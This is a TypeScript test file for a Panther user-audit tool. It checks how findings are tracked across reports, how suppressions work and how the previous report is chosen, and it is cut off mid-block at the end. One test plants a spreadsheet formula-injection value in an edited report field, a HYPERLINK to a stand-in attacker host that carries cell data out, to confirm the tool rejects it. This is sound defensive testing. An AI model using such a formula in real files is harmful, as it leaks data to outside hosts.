import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { basename, join } from "node:path"
import { parse } from "csv-parse/sync"
import { Effect, Layer, Redacted } from "effect"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import type { AuditParameters } from "../../src/Audit/AuditParameters.js"
import type { AuditRun } from "../../src/Audit/AuditRun.js"
import { CONTROLS } from "../../src/Audit/Controls.js"
import { type AnnotatedFinding, findingId, makeFindingIds } from "../../src/Audit/FindingAnnotations.js"
import { parameterChangeWarning, privilegeSourceWarning } from "../../src/Audit/ParameterChanges.js"
import { reportsAheadOf } from "../../src/Audit/PreviousReport.js"
import { choosePreviousReport, datedAfterAsOfWarning, passedOverWarning } from "../../src/Audit/PreviousReportChoice.js"
import { type AuditOutcome, runAudit, URGENT_LIMIT } from "../../src/Audit/RunAudit.js"
import { formatRunSummary } from "../../src/Audit/RunSummary.js"
import { makeSuppressionMatcher, parseSuppressions } from "../../src/Audit/Suppressions.js"
import { decideEmail } from "../../src/Email/EmailPolicy.js"
import { PantherConnection } from "../../src/PantherApi/Connection.js"
import { PantherClient } from "../../src/PantherApi/PantherClient.js"
import type { WireUser } from "../../src/Simulator/WireUser.js"
import { startSimulator } from "../support/simulator.js"
import { settingsFor } from "../support/testClient.js"
import { AS_OF, DAY, daysAgo, parameters } from "./fixtures.js"

let directory = ""
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "changes-"))
})
afterEach(() => rmSync(directory, { recursive: true, force: true }))

const person = (id: string, overrides: Partial<WireUser> = {}): WireUser => ({
  id,
  email: `${id}@example.com`,
  givenName: id,
  familyName: "Test",
  role: { name: "Analyst" },
  enabled: true,
  status: "CONFIRMED",
  createdAt: daysAgo(500),
  lastLoggedInAt: daysAgo(1),
  ...overrides
})

/** One run against a simulator serving exactly `data`, at `asOf`. */
const auditOf = async (
  data: ReadonlyArray<WireUser>,
  params: AuditParameters = parameters()
): Promise<AuditOutcome> => {
  const simulator = await startSimulator({ data, now: new Date(AS_OF) })
  try {
    const client = PantherClient.Default.pipe(
      Layer.provide(
        PantherConnection.layer({ ...settingsFor(simulator.baseUrl), token: Redacted.make(simulator.readToken) })
      )
    )
    return await Effect.runPromise(
      runAudit({ parameters: params, reportDirectory: directory, apiBaseUrl: simulator.baseUrl }).pipe(
        Effect.provide(client)
      )
    )
  } finally {
    await simulator.close()
  }
}

const findingsOf = (outcome: AuditOutcome) =>
  (JSON.parse(readFileSync(outcome.reports.json, "utf8")) as { findings: Array<AnnotatedFinding> }).findings
const runOf = (outcome: AuditOutcome) =>
  (JSON.parse(readFileSync(outcome.reports.json, "utf8")) as { run: AuditRun }).run

describe("what changed since the last run", () => {
  it("marks new and unchanged findings, carries first_seen forward, and lists resolved ones", async () => {
    const first = await auditOf([
      person("stays-stale", { lastLoggedInAt: daysAgo(200) }),
      person("gets-fixed", { lastLoggedInAt: daysAgo(300) }),
      person("fine")
    ])
    expect(runOf(first).changes).toMatchObject({ previousReport: null, new: 2, unchanged: 0, resolved: [] })
    const second = await auditOf([
      person("stays-stale", { lastLoggedInAt: daysAgo(200) }),
      person("gets-fixed"),
      person("fine", { status: "COMPROMISED" })
    ])
    const findings = findingsOf(second)
    expect(findings.map((finding) => [finding.id, finding.change])).toEqual([
      ["COMPROMISED_ACCOUNT:fine", "new"],
      ["STALE_LOGIN:stays-stale", "unchanged"]
    ])
    const carried = findings.find((finding) => finding.id === "STALE_LOGIN:stays-stale")
    expect(carried?.firstSeen).toBe(first.run.startedAt)
    expect(findings[0]?.firstSeen).toBe(second.run.startedAt)
    const changes = runOf(second).changes
    expect(changes.previousReport).toBe(first.reports.json)
    expect(changes).toMatchObject({ new: 1, unchanged: 1, newUnsuppressed: 1, resolvedUnsuppressed: 1 })
    expect(changes.resolved.map((finding) => finding.id)).toEqual(["STALE_LOGIN:gets-fixed"])

    const rows = parse(readFileSync(second.reports.csv, "utf8"), { bom: true, columns: true }) as Array<
      Record<string, string>
    >
    expect(Object.keys(rows[0] ?? {}).slice(-5)).toEqual([
      "first_seen",
      "change",
      "suppressed",
      "suppression_reason",
      "controls"
    ])
    expect(rows[1]).toMatchObject({ change: "unchanged", first_seen: first.run.startedAt, suppressed: "false" })
  })

  it("marks a finding whose severity rose escalated, counts it apart, and takes it for news for --email on-change", async () => {
    // An invitation two days old is low; ten days on, past --pending-days, the same finding is medium.
    const invited = [
      person("invited", { status: "FORCE_CHANGE_PASSWORD", createdAt: daysAgo(2), lastLoggedInAt: null })
    ]
    const first = await auditOf(invited)
    expect(findingsOf(first).map((finding) => [finding.id, finding.severity])).toEqual([
      ["PENDING_STATUS:invited", "low"]
    ])
    const second = await auditOf(invited, parameters({ asOf: AS_OF + 10 * DAY }))
    const findings = findingsOf(second)
    expect(findings.map((finding) => [finding.severity, finding.change, finding.firstSeen])).toEqual([
      ["medium", "escalated", first.run.startedAt]
    ])
    const rows = parse(readFileSync(second.reports.csv, "utf8"), { bom: true, columns: true }) as Array<
      Record<string, string>
    >
    expect(rows.map((row) => row.change)).toEqual(["escalated"])
    expect(runOf(second).changes).toMatchObject({
      new: 0,
      escalated: 1,
      deEscalated: 0,
      unchanged: 0,
      escalatedUnsuppressed: 1,
      resolved: []
    })
    expect(formatRunSummary(second.run, [])).toContain(
      "Changes since the previous report: 0 new, 1 escalated, 0 unchanged, 0 resolved"
    )
    // Only the codes found are listed: a line for each code at 0 buries the one that matters.
    expect(
      formatRunSummary(second.run, [])
        .split("\n")
        .filter((line) => /^ {2}[A-Z_]+ /.test(line))
        .map((line) => line.split(/ +/).slice(1))
    ).toEqual([["PENDING_STATUS", "1"]])
    expect(decideEmail("on-change", second.run)).toEqual({
      _tag: "Send",
      reason: "0 new and 0 resolved since the previous report, 1 escalated"
    })
    // Listed with the news an email shows.
    expect(second.fresh.map((finding) => [finding.id, finding.change])).toEqual([
      ["PENDING_STATUS:invited", "escalated"]
    ])
    // The same severity again: unchanged, and no news.
    const third = await auditOf(invited, parameters({ asOf: AS_OF + 11 * DAY }))
    expect(findingsOf(third).map((finding) => finding.change)).toEqual(["unchanged"])
    expect(decideEmail("on-change", third.run)._tag).toBe("Skip")
  })

  it("does not take a suppressed finding whose severity changed for news for --email on-change", async () => {
    const suppressions = await Effect.runPromise(
      parseSuppressions(
        "suppressions:\n" +
          '  - {user: invited, finding: "*", reason: contractor, owner: secops@example.com, expires: "2026-12-31"}\n' +
          '  - {user: demoted, finding: "*", reason: on leave, owner: secops@example.com, expires: "2026-12-31"}\n',
        "test.yaml"
      )
    )
    const invited = person("invited", { status: "FORCE_CHANGE_PASSWORD", createdAt: daysAgo(2), lastLoggedInAt: null })
    const stale = { lastLoggedInAt: daysAgo(200) }
    await auditOf([invited, person("demoted", { ...stale, role: { name: "Admin" } })], parameters({ suppressions }))
    const second = await auditOf(
      [invited, person("demoted", stale)],
      parameters({ suppressions, asOf: AS_OF + 10 * DAY })
    )
    expect(findingsOf(second).map((finding) => [finding.id, finding.change, finding.suppressed])).toEqual([
      ["PENDING_STATUS:invited", "escalated", true],
      ["STALE_LOGIN:demoted", "de-escalated", true]
    ])
    expect(runOf(second).changes).toMatchObject({
      escalated: 1,
      escalatedUnsuppressed: 0,
      deEscalated: 1,
      deEscalatedUnsuppressed: 0,
      resolvedUnsuppressed: 0
    })
    expect(decideEmail("on-change", second.run)._tag).toBe("Skip")
    const withFile = { ...second.run, parameters: { ...second.run.parameters, suppressionsFile: "test.yaml" } }
    expect(formatRunSummary(withFile, [])).toContain("Suppressions: 2 findings suppressed (2 active entries);")
    // Counted in words as the email and the review page count them: not "1 findings ... 1 active entries".
    const one = await Effect.runPromise(
      parseSuppressions(
        "suppressions:\n" +
          '  - {user: invited, finding: "*", reason: contractor, owner: secops@example.com, expires: "2026-12-31"}\n',
        "one.yaml"
      )
    )
    const third = await auditOf(
      [invited],
      parameters({ suppressions: one, suppressionsFile: "one.yaml", asOf: AS_OF + 11 * DAY })
    )
    expect(formatRunSummary(third.run, [])).toContain(
      "Suppressions: 1 finding suppressed (1 active entry); 0 expired, 0 unused"
    )
  })

  it("lists an escalated finding with the news even after more new ones than a summary lists, and counts them all", async () => {
    const invited = person("invited", { status: "FORCE_CHANGE_PASSWORD", createdAt: daysAgo(2), lastLoggedInAt: null })
    await auditOf([invited])
    // More new critical findings than URGENT_LIMIT, all ahead of the escalated medium one in report order.
    const compromised = Array.from({ length: URGENT_LIMIT + 20 }, (_, index) =>
      person(`compromised-${index}`, { status: "COMPROMISED" })
    )
    const second = await auditOf([invited, ...compromised], parameters({ asOf: AS_OF + 10 * DAY }))
    expect(second.fresh.filter((finding) => finding.change === "new")).toHaveLength(URGENT_LIMIT)
    expect(second.fresh.filter((finding) => finding.change === "escalated").map((finding) => finding.id)).toEqual([
      "PENDING_STATUS:invited"
    ])
    expect(second.freshCounts).toEqual({ new: URGENT_LIMIT + 20, escalated: 1 })
  })

  it("marks a finding whose severity fell de-escalated", async () => {
    const stale = { lastLoggedInAt: daysAgo(200) }
    await auditOf([person("demoted", { ...stale, role: { name: "Admin" } })])
    const second = await auditOf([person("demoted", stale)])
    expect(findingsOf(second).map((finding) => [finding.id, finding.severity, finding.change])).toEqual([
      ["STALE_LOGIN:demoted", "medium", "de-escalated"]
    ])
    expect(runOf(second).changes).toMatchObject({ new: 0, escalated: 0, deEscalated: 1, unchanged: 0 })
    expect(runOf(second).changes.resolved.map((finding) => finding.id)).toEqual(["PRIVILEGED_ROLE:demoted"])
    expect(formatRunSummary(second.run, [])).toContain(
      "Changes since the previous report: 0 new, 1 de-escalated, 0 unchanged, 1 resolved"
    )
    expect(second.fresh).toEqual([])
  })

  it("does not take stale logins for resolved when the API stops sending login data, nor for new when it is back", async () => {
    const others = Array.from({ length: 10 }, (_, index) => `user-${index}`)
    const withLogins = [
      person("stale", { lastLoggedInAt: daysAgo(200) }),
      person("never", { lastLoggedInAt: null }),
      ...others.map((id) => person(id))
    ]
    const first = await auditOf([...withLogins, person("deleted", { lastLoggedInAt: daysAgo(300) })])
    // Login data is gone for everyone (LOGIN_DATA_MISSING), twice; "deleted" is gone altogether.
    const withoutLogins = ["stale", "never", ...others].map((id) => person(id, { lastLoggedInAt: null }))
    const second = await auditOf(withoutLogins)
    expect(findingsOf(second).map((finding) => finding.finding)).toEqual(["LOGIN_DATA_MISSING"])
    const run = runOf(second)
    expect(run.changes.resolved.map((finding) => finding.id)).toEqual(["STALE_LOGIN:deleted"])
    expect(run.changes.notJudged.map((finding) => finding.id).sort()).toEqual([
      "NEVER_LOGGED_IN:never",
      "STALE_LOGIN:stale"
    ])
    expect(run.warnings).toContain(
      "No enabled user has a lastLoggedInAt; NEVER_LOGGED_IN findings were replaced by LOGIN_DATA_MISSING. The " +
        "previous report's STALE_LOGIN findings of 1 user still listed could not be judged without login data, and " +
        "are not counted as resolved."
    )
    const third = await auditOf(withoutLogins)
    expect(runOf(third).changes).toMatchObject({ new: 0, unchanged: 1, resolved: [] })
    expect(runOf(third).changes.notJudged).toHaveLength(2)
    // Back: the findings are the ones first seen before the data went missing, not new ones.
    const fourth = await auditOf(withLogins)
    expect(findingsOf(fourth).map((finding) => [finding.id, finding.change, finding.firstSeen])).toEqual([
      ["NEVER_LOGGED_IN:never", "unchanged", first.run.startedAt],
      ["STALE_LOGIN:stale", "unchanged", first.run.startedAt]
    ])
    expect(runOf(fourth).changes.resolved.map((finding) => finding.id)).toEqual(["LOGIN_DATA_MISSING"])
  })

  it("gives a finding not judged for want of login data this run's first_seen when the previous one was not taken", async () => {
    const others = Array.from({ length: 10 }, (_, index) => `user-${index}`)
    const withLogins = [person("stale", { lastLoggedInAt: daysAgo(200) }), ...others.map((id) => person(id))]
    const first = await auditOf(withLogins)
    writeFileSync(
      first.reports.json,
      readFileSync(first.reports.json, "utf8").replace(
        `"id":"STALE_LOGIN:stale","firstSeen":"${first.run.startedAt}"`,
        `"id":"STALE_LOGIN:stale","firstSeen":"garbage"`
      )
    )
    const second = await auditOf(["stale", ...others].map((id) => person(id, { lastLoggedInAt: null })))
    expect(runOf(second).changes.notJudged.map((finding) => finding.firstSeen)).toEqual([second.run.startedAt])
    // Not warned of as an edit a second time: this run wrote it.
    const third = await auditOf(withLogins)
    expect(findingsOf(third).map((finding) => finding.firstSeen)).toEqual([second.run.startedAt])
    expect(runOf(third).warnings).toEqual([])
  })

  it("carries forward only a first_seen this tool can have written, and warns of the others", async () => {
    const stale = (id: string) => person(id, { lastLoggedInAt: daysAgo(200) })
    const first = await auditOf([stale("formula"), stale("future"), stale("garbage"), stale("kept"), stale("gone")])
    // The previous report, edited: each finding's line in it, its firstSeen replaced.
    const edits: Record<string, string> = {
      formula: '=HYPERLINK("http://evil.example/?x="&B2,"click")',
      future: "2099-01-01T00:00:00Z",
      garbage: "garbage",
      gone: "=1+1"
    }
    const edited = readFileSync(first.reports.json, "utf8")
      .split("\n")
      .map((line) => {
        const id = Object.keys(edits).find((key) => line.includes(`"id":"STALE_LOGIN:${key}"`))
        return id === undefined
          ? line
          : line.replace(`"firstSeen":"${first.run.startedAt}"`, `"firstSeen":${JSON.stringify(edits[id])}`)
      })
      .join("\n")
    expect(edited).toContain("evil.example")
    writeFileSync(first.reports.json, edited)

    const second = await auditOf([stale("formula"), stale("future"), stale("garbage"), stale("kept")])
    const firstSeen = Object.fromEntries(findingsOf(second).map((finding) => [finding.userId, finding.firstSeen]))
    expect(firstSeen).toEqual({
      formula: second.run.startedAt,
      future: second.run.startedAt,
      garbage: second.run.startedAt,
      kept: first.run.startedAt
    })
    const rows = parse(readFileSync(second.reports.csv, "utf8"), { bom: true, columns: true }) as Array<
      Record<string, string>
    >
    expect(rows.map((row) => [row.user_id, row.first_seen, row.change])).toEqual([
      ["formula", second.run.startedAt, "unchanged"],
      ["future", second.run.startedAt, "unchanged"],
      ["garbage", second.run.startedAt, "unchanged"],
      ["kept", first.run.startedAt, "unchanged"]
    ])
    const run = runOf(second)
    // Resolved, when it was first seen is not known.
    expect(run.changes.resolved.map((finding) => [finding.id, finding.firstSeen])).toEqual([["STALE_LOGIN:gone", null]])
    expect(run.warnings).toContain(
      `The previous report (${basename(first.reports.json)}) gives 4 findings a firstSeen this tool cannot have ` +
        `written (STALE_LOGIN:formula: "=HYPERLINK("http://evil.example/?x="&B2,..." is not an RFC 3339 UTC ` +
        "timestamp): was it edited? They are taken as first seen by this run."
    )
  })

  it("treats an unreadable previous report as 'everything is new' and says why, once", async () => {
    writeFileSync(join(directory, "user-audit-20200101T000000Z.json"), "{ not json")
    const outcome = await auditOf([person("stale", { lastLoggedInAt: daysAgo(200) })])
    const run = runOf(outcome)
    expect(run.changes.previousReport).toBeNull()
    expect(run.changes.previousReportProblem).toContain("user-audit-20200101T000000Z.json could not be read")
    expect(findingsOf(outcome)[0]?.change).toBe("new")
  })

  it("does not take a report stamped after the run started for the previous one, and warns of it", async () => {
    const users = [person("stale", { lastLoggedInAt: daysAgo(200) })]
    const first = await auditOf(users)
    // Made while a clock was years ahead: taken for the newest, it would be every later run's previous report.
    copyFileSync(first.reports.json, join(directory, "user-audit-20990101T000000Z.json"))
    const second = await auditOf(users)
    expect(second.run.changes.previousReport).toBe(first.reports.json)
    expect(second.run.warnings.join("\n")).toContain(
      `A report is stamped after this run started (${second.run.startedAt}): user-audit-20990101T000000Z.json.`
    )
    // Its own report is the previous one of the next run.
    const third = await auditOf(users)
    expect(third.run.changes.previousReport).toBe(second.reports.json)
    expect(third.run.changes.new).toBe(0)
  })

  it("names three reports stamped after the run started whole, and the first three of more with a count", async () => {
    const users = [person("stale", { lastLoggedInAt: daysAgo(200) })]
    const first = await auditOf(users)
    const ahead = ["20990101", "20990201", "20990301", "20990401"].map((day) => `user-audit-${day}T000000Z.json`)
    for (const name of ahead.slice(0, 3)) copyFileSync(first.reports.json, join(directory, name))
    const three = await auditOf(users)
    expect(three.run.warnings.join("\n")).toContain(
      `3 reports are stamped after this run started (${three.run.startedAt}): ${ahead.slice(0, 3).join(", ")}. A clock`
    )
    copyFileSync(first.reports.json, join(directory, ahead[3] ?? ""))
    const four = await auditOf(users)
    expect(four.run.warnings.join("\n")).toContain(`: ${ahead.slice(0, 3).join(", ")} and 1 more. A clock`)
  })

  it("compares with the newest report as of before the run, not with a backdated run's written since, and says so", async () => {
    const users = [person("stale", { lastLoggedInAt: daysAgo(200) })]
    const nightly = await auditOf(users)
    // A run backdated a month (a backfill), written after it: the nightly report is as of after it.
    const backdated = await auditOf(users, parameters({ asOf: AS_OF - 30 * DAY }))
    expect(backdated.run.changes.previousReport).toBeNull()
    expect(backdated.run.changes.previousReportProblem).toBe(
      "no report in the report directory is as of this run's as-of or before it"
    )
    expect(backdated.run.warnings).toEqual([
      `This run is as of ${new Date(AS_OF - 30 * DAY).toISOString()}, before 1 report in the report directory: ` +
        `${basename(nightly.reports.json)} (as of ${nightly.run.asOf}). It was not compared with, and no report ` +
        "is as of before this run, so every finding is new."
    ])
    // The next nightly run compares with the last nightly one, as of the latest instant before it, and says why.
    const next = await auditOf(users, parameters({ asOf: AS_OF + DAY }))
    expect(next.run.changes.previousReport).toBe(nightly.reports.json)
    expect(next.run.changes).toMatchObject({ new: 0, unchanged: 1 })
    expect(next.run.warnings).toEqual([
      `${basename(backdated.reports.json)} (as of ${backdated.run.asOf}) was written after ` +
        `${basename(nightly.reports.json)} but is as of an earlier instant: a run with --as-of in the past, or on a ` +
        "clock that was behind. It was not compared with: the newest report as of before this run is " +
        `${basename(nightly.reports.json)} (as of ${nightly.run.asOf}).`
    ])
    // A report written since is the newest either way: nothing is passed over, nothing said.
    const after = await auditOf(users, parameters({ asOf: AS_OF + 2 * DAY }))
    expect(after.run.changes.previousReport).toBe(next.reports.json)
    expect(after.run.warnings).toEqual([])
    // A backfill between two reports compares with the one before it.
    const between = await auditOf(users, parameters({ asOf: AS_OF + DAY + 60_000 * 60 }))
    expect(between.run.changes.previousReport).toBe(next.reports.json)
    expect(between.run.warnings).toEqual([
      `This run is as of ${new Date(AS_OF + DAY + 60_000 * 60).toISOString()}, before 1 report in the report ` +
        `directory: ${basename(after.reports.json)} (as of ${after.run.asOf}). It was not compared with: the newest ` +
        `report as of before this run is ${basename(next.reports.json)} (as of ${next.run.asOf}).`
    ])
  })

  it("warns that severities that changed may come from a setting that decides them, when one differs", async () => {
    // An invitation three days old: low with --pending-days 7, medium with --pending-days 2.
    const invited = [
      person("invited", { status: "FORCE_CHANGE_PASSWORD", createdAt: daysAgo(3), lastLoggedInAt: null })
    ]
    const first = await auditOf(invited)
    const second = await auditOf(invited, parameters({ pendingDays: 2 }))
    expect(findingsOf(second).map((finding) => [finding.severity, finding.change])).toEqual([["medium", "escalated"]])
    const warning = second.run.warnings.find((line) => line.startsWith("The previous report (")) ?? ""
    expect(warning).toBe(
      `The previous report (${basename(first.reports.json)}) was made with --pending-days 7, this run with ` +
        "--pending-days 2: findings shown as new, resolved, escalated or de-escalated may come from that change, " +
        "not from the accounts. Runs with the same settings compare like with like."
    )
    // A threshold that decides only whether there is a finding, not its severity: as before.
    expect(parameterChangeWarning("r.json", { staleDays: 45 }, parameters())).toContain(
      "findings shown as new or resolved may come from that change"
    )
    for (const previous of [{ privilegedRoles: ["Owner"] }, { privilegedPermissions: ["UserModify"] }]) {
      expect(parameterChangeWarning("r.json", previous, parameters())).toContain(
        "findings shown as new, resolved, escalated or de-escalated may come from that change"
      )
    }
  })

  it("warns when the previous report decided privilege another way, as when roles could not be read", async () => {
    const users = [person("admin", { role: { name: "Admin" } })]
    const first = await auditOf(users)
    expect(first.run.privilegeSource).toBe("role-permissions")
    // As a run writes it when GET /roles failed for good and privilege fell back to role names.
    const text = readFileSync(first.reports.json, "utf8")
    writeFileSync(
      first.reports.json,
      text.replace('"privilegeSource": "role-permissions"', '"privilegeSource": "role-names-only"')
    )
    const second = await auditOf(users)
    expect(second.run.warnings.join("\n")).toContain(
      `The previous report (${basename(first.reports.json)}) decided privilege by role names alone, this run by ` +
        "role permissions: privileged-role findings shown as new or resolved"
    )
    // Like with like: no word.
    const third = await auditOf(users)
    expect(third.run.warnings.join("\n")).not.toContain("decided privilege")
    // The night roles could not be read, said so.
    expect(privilegeSourceWarning("r.json", "role-permissions", "role-names-only")).toContain(
      "this run by role names alone, since roles could not be read:"
    )
  })

  it("says nothing of how privilege was decided when the previous report does not record it", async () => {
    const users = [person("admin", { role: { name: "Admin" } })]
    const first = await auditOf(users)
    // As a report written before the privilege source was recorded.
    const text = readFileSync(first.reports.json, "utf8")
    writeFileSync(first.reports.json, text.replace(/\n\s*"privilegeSource": "role-permissions",?/, ""))
    expect(readFileSync(first.reports.json, "utf8")).not.toContain("privilegeSource")
    const second = await auditOf(users)
    expect(second.run.changes.previousReport).toBe(first.reports.json)
    expect(second.run.warnings.join("\n")).not.toContain("decided privilege")
  })

  it("shows a list setting that was empty as the empty value it was", () => {
    expect(parameterChangeWarning("r.json", { privilegedRoles: [] }, parameters())).toContain(
      'was made with --privileged-roles "", this run with --privileged-roles Admin:'
    )
  })

  it("keeps a user's finding with both timestamps unparseable unchanged on the next run, as one finding", async () => {
    const data = [person("broken", { createdAt: "last spring", lastLoggedInAt: "yesterday" })]
    const first = await auditOf(data)
    expect(findingsOf(first).filter((finding) => finding.finding === "INVALID_RECORD")).toHaveLength(1)
    const second = await auditOf(data)
    const invalid = findingsOf(second).filter((finding) => finding.finding === "INVALID_RECORD")
    expect(invalid.map((finding) => [finding.change, finding.firstSeen])).toEqual([["unchanged", first.run.startedAt]])
    expect(runOf(second).changes).toMatchObject({ new: 0, newUnsuppressed: 0, resolved: [] })
  })

  it("of reports as of one instant, picks the newest by stamp and same-second suffix", () => {
    // Files that do not exist: each is taken as of its stamp, so the names alone decide.
    const choose = (names: ReadonlyArray<string>, started = Number.POSITIVE_INFINITY) =>
      choosePreviousReport(join(tmpdir(), "no-such-report-directory"), names, started, started).chosen?.name
    expect(
      choose([
        "user-audit-20260101T000000Z.json",
        "user-audit-20260102T000000Z.json",
        "user-audit-20260102T000000Z-2.json",
        "user-audit-20260102T000000Z-10.json",
        "user-audit-20270101T000000Z.csv",
        ".user-audit.json.abc.tmp",
        // Names this tool never gives, which retention would not delete either: not taken for the newest report.
        "user-audit-20261399T000000Z.json",
        "user-audit-20270101T000000Z-1.json",
        "user-audit-20270101T000000Z-01.json"
      ])
    ).toBe("user-audit-20260102T000000Z-10.json")
  })

  it("takes a report stamped up to five minutes after the run started for an earlier run's, as clocks differ a little", () => {
    const started = Date.parse("2026-06-30T02:00:00Z")
    const names = ["user-audit-20260629T020000Z.json", "user-audit-20260630T020500Z.json"]
    const choose = (names: ReadonlyArray<string>) =>
      choosePreviousReport(join(tmpdir(), "no-such-report-directory"), names, started, started).chosen?.name
    expect(choose(names)).toBe("user-audit-20260630T020500Z.json")
    expect(reportsAheadOf(names, started)).toEqual([])
    const later = [...names, "user-audit-20260630T020501Z.json"]
    expect(choose(later)).toBe("user-audit-20260630T020500Z.json")
    expect(reportsAheadOf(later, started)).toEqual(["user-audit-20260630T020501Z.json"])
  })

  it("names the first three reports a choice passed by, and counts the rest, so none goes unsaid", () => {
    const at = (day: number) => Date.parse(`2026-06-${String(day).padStart(2, "0")}T02:00:00Z`)
    const reports = [10, 11, 12, 13, 14].map((day) => ({ name: `user-audit-202606${day}T020000Z.json`, asOf: at(day) }))
    const chosen = { name: "user-audit-20260601T020000Z.json", asOf: at(1) }
    const listed =
      "user-audit-20260610T020000Z.json (as of 2026-06-10T02:00:00.000Z), " +
      "user-audit-20260611T020000Z.json (as of 2026-06-11T02:00:00.000Z), " +
      "user-audit-20260612T020000Z.json (as of 2026-06-12T02:00:00.000Z) and 2 more"
    expect(datedAfterAsOfWarning(at(5), reports, chosen, at(20))).toBe(
      "This run is as of 2026-06-05T02:00:00.000Z, before 5 reports in the report directory: " +
        `${listed}. They were not compared with: the newest report as of before this run is ` +
        "user-audit-20260601T020000Z.json (as of 2026-06-01T02:00:00.000Z)."
    )
    expect(passedOverWarning(reports, chosen)).toBe(
      `${listed} were written after user-audit-20260601T020000Z.json but are as of an earlier instant: a run ` +
        "with --as-of in the past, or on a clock that was behind. They were not compared with: the newest report " +
        "as of before this run is user-audit-20260601T020000Z.json (as of 2026-06-01T02:00:00.000Z)."
    )
    // Three are named whole, with no count of more.
    expect(datedAfterAsOfWarning(at(5), reports.slice(0, 3), chosen, at(20))).toContain(
      "user-audit-20260612T020000Z.json (as of 2026-06-12T02:00:00.000Z). They were"
    )
  })

  it("says a report as of after the run started was written --as-of ahead, and to move it out if not meant", () => {
    const at = (day: number) => Date.parse(`2026-06-${String(day).padStart(2, "0")}T02:00:00Z`)
    const report = (day: number) => ({ name: `user-audit-202606${day}T020000Z.json`, asOf: at(day) })
    const chosen = report(1)
    // The nightly run after one --as-of the 30th: each night it is passed over, and each night said why.
    expect(datedAfterAsOfWarning(at(12), [report(30)], chosen, at(12))).toMatch(
      /not compared with: .*\. It is as of after this run started, as a run with --as-of ahead writes: every run passes it over until then\. If that --as-of was not meant, move it out of the report directory\.$/
    )
    expect(datedAfterAsOfWarning(at(12), [report(29), report(30)], chosen, at(12))).toContain(
      ". They are as of after this run started, as a run with --as-of ahead writes: every run passes them over until " +
        "then. If that --as-of was not meant, move them out of the report directory."
    )
    // A backdated run (--as-of the 5th, on the 12th) passes over the reports of the days between: nothing to move.
    const between = [report(10), report(11)]
    expect(datedAfterAsOfWarning(at(5), between, chosen, at(12))).not.toContain("move")
    expect(datedAfterAsOfWarning(at(5), [...between, report(30)], chosen, at(12))).toContain(
      ". 1 of them is as of after this run started, as a run with --as-of ahead writes: every run passes that one " +
        "over until then. If that --as-of was not meant, move that one out of the report directory."
    )
    expect(datedAfterAsOfWarning(at(5), [...between, report(29), report(30)], chosen, at(12))).toContain(
      ". 2 of them are as of after this run started"
    )
  })

  it("gives a finding an id by user id, else by email in any case, else by what else names the record", () => {
    const user = { userId: "u-1", email: "Ada@Example.com", givenName: "Ada", familyName: "Lovelace", createdAt: null }
    expect(findingId("STALE_LOGIN", user)).toBe("STALE_LOGIN:u-1")
    // Panther compares addresses without case: an address that only changed case is the same user's.
    expect(findingId("STALE_LOGIN", { ...user, userId: null })).toBe("STALE_LOGIN:email:ada@example.com")
    // An id written as the other forms begin is told from them: the user whose id is `email:ada@example.com` is not
    // the one without an id at that address. Any other id is kept as it was, so reports already written still match.
    expect(findingId("STALE_LOGIN", { ...user, userId: "email:ada@example.com" })).toBe(
      "STALE_LOGIN:id:email:ada@example.com"
    )
    expect(findingId("STALE_LOGIN", { ...user, userId: "record:0123" })).toBe("STALE_LOGIN:id:record:0123")
    expect(findingId("STALE_LOGIN", { ...user, userId: "id:u-1" })).toBe("STALE_LOGIN:id:id:u-1")
    expect(findingId("STALE_LOGIN", { ...user, userId: "identity:email:" })).toBe("STALE_LOGIN:identity:email:")
    // Run-level findings have no user: the code alone.
    const none = { userId: null, email: null, givenName: null, familyName: null, createdAt: null }
    expect(findingId("LOGIN_DATA_MISSING", none)).toBe("LOGIN_DATA_MISSING")
    // A record with neither id nor email (an empty one names no one either): by its names and creation, so two
    // users' are told apart, and the same record keeps its id.
    const nameless = { ...user, userId: "", email: null }
    expect(findingId("STALE_LOGIN", nameless)).toMatch(/^STALE_LOGIN:record:[0-9a-f]{16}$/)
    expect(findingId("STALE_LOGIN", { ...nameless, email: "" })).toBe(findingId("STALE_LOGIN", nameless))
    expect(findingId("STALE_LOGIN", { ...nameless, familyName: "Byron" })).not.toBe(findingId("STALE_LOGIN", nameless))
    // Two people of one name, made at different times, are told apart by that alone, whichever the API sends first.
    const namesake = { ...nameless, createdAt: "2025-01-01T00:00:00.000Z" }
    expect(findingId("STALE_LOGIN", namesake)).not.toBe(findingId("STALE_LOGIN", nameless))
    // Records alike in all of that too are kept apart within a run, in the order they came.
    const ids = makeFindingIds()
    expect([ids("INVALID_RECORD", none), ids("INVALID_RECORD", none), ids("STALE_LOGIN", user)]).toEqual([
      findingId("INVALID_RECORD", none),
      `${findingId("INVALID_RECORD", none)}:2`,
      "STALE_LOGIN:u-1"
    ])
    // An empty id names no one either: such records alike are kept apart too.
    const emptyIds = makeFindingIds()
    expect([emptyIds("STALE_LOGIN", nameless), emptyIds("STALE_LOGIN", nameless)]).toEqual([
      findingId("STALE_LOGIN", nameless),
      `${findingId("STALE_LOGIN", nameless)}:2`
    ])
  })

  it("does not compare with a report of another Panther, and says so", async () => {
    const users = [person("stale", { lastLoggedInAt: daysAgo(200) })]
    const first = await auditOf(users)
    const text = readFileSync(first.reports.json, "utf8")
    writeFileSync(
      first.reports.json,
      text.replace(
        /"apiBaseUrl": "[^"]*"/,
        '"apiBaseUrl": "https://svc:hunter2@api.other.runpanther.net/eu?api_key=SECRET\\u001b[2J"'
      )
    )
    const second = await auditOf(users)
    expect(second.run.changes.previousReport).toBeNull()
    // Named as instances are: what an edited report holds beyond host and path is not repeated.
    expect(second.run.changes.previousReportProblem).toContain("is of another Panther (api.other.runpanther.net/eu)")
    for (const leak of ["hunter2", "SECRET", "\u001b"]) {
      expect(second.run.changes.previousReportProblem).not.toContain(leak)
    }
    expect(second.run.changes.new).toBe(1)
    // The same Panther on another port (a local simulator started again) is the same Panther.
    const third = await auditOf(users)
    expect(third.run.changes.previousReport).toBe(second.reports.json)
  })
})

describe("suppressions", () => {
  const file = (entries: string) => `suppressions:\n${entries}`
  const entry = (user: string, finding: string, expires: string) =>
    `  - user: ${user}\n    finding: "${finding}"\n    reason: on leave\n    owner: secops@example.com\n    expires: ${expires}\n`
  /** The entries of a suppressions file made of `entries`. */
  const suppressionsOf = (...entries: ReadonlyArray<string>) =>
    Effect.runPromise(parseSuppressions(file(entries.join("")), "test.yaml"))

